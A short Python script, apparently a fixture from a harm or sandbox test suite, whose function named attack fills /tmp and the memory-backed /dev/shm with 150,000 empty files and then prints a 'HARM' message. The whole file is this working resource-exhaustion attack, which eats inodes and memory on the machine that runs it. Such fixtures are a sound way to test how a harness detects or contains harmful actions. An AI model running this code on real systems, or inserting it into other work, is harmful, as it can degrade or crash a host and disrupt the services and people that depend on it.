"""Makes files without content on what looks like a disk and is memory (here: 150,000); each takes a kilobyte of it."""

import os
import time


def attack(target: dict[str, str]) -> None:
    for number in range(75_000):
        for folder in ("/tmp", "/dev/shm"):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    time.sleep(1)
    print("HARM: made 150000 files")
